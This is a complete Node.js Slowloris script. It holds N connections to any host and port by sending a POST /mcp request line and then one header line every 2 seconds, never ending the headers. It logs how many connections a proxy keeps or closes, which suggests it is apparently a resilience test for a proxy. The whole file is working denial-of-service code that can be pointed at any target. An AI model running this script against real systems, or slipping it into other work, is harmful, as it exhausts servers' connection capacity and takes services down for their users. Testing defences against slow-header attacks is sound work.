// Slowloris: N connections to HOST:PORT (at most 200 connecting at a time) that each send a request line and
// then one header line every 2 s, never ending the header block. Prints one JSON line each:
//   READY {"connected":..,"failed":..}         all tried and one round of header lines sent
//   STATUS {"open":..,"closed_by_server":..,"seconds":..}   every 2 s: connections the proxy still keeps, and
//                                                            seconds since the last connection was opened
// and ends all of them after HOLD_S seconds or on SIGTERM.
//   node slowloris.js HOST PORT N [HOLD_S=120]
'use strict';
const net = require('net');
const [host, portArg, nArg, holdArg] = process.argv.slice(2);
const port = Number(portArg), n = Number(nArg), holdMs = 1000 * Number(holdArg || 120);
const CONCURRENT = 200;
const sockets = new Set();
let connected = 0, failed = 0, closedByServer = 0, started = 0, inFlight = 0, ready = false, line = 0, stopping = false, allOpenAt = 0;

function openOne() {
  started++; inFlight++;
  const sock = net.connect({ host, port });
  let up = false;
  sock.setTimeout(5000, () => { if (!up) sock.destroy(); });
  sock.on('connect', () => {
    up = true; connected++; inFlight--; sockets.add(sock); sock.setTimeout(0);
    sock.write(`POST /mcp HTTP/1.1\r\nHost: ${host}:${port}\r\n`);
    pump();
  });
  sock.on('data', () => {});  // a 408 or 400 from the proxy: then it closes
  sock.on('error', () => {});
  sock.on('close', () => {
    if (up) { if (sockets.delete(sock) && !stopping) closedByServer++; } else { failed++; inFlight--; pump(); }
  });
}

function pump() {
  while (inFlight < CONCURRENT && started < n) openOne();
  if (!ready && inFlight === 0 && started === n) {
    ready = true;
    allOpenAt = Date.now();
    setTimeout(() => console.log('READY ' + JSON.stringify({ connected, failed })), 2100);
  }
}

const tick = setInterval(() => {
  line++;
  for (const s of sockets) s.write(`X-Slow-${line}: ${line}\r\n`);
  if (ready) console.log('STATUS ' + JSON.stringify({ open: sockets.size, closed_by_server: closedByServer,
                                                      seconds: Math.round((Date.now() - allOpenAt) / 1000) }));
}, 2000);

function finish() {
  stopping = true;
  clearInterval(tick);
  for (const s of sockets) s.destroy();
  setTimeout(() => process.exit(0), 200);
}
process.on('SIGTERM', finish);
setTimeout(finish, holdMs);
pump();
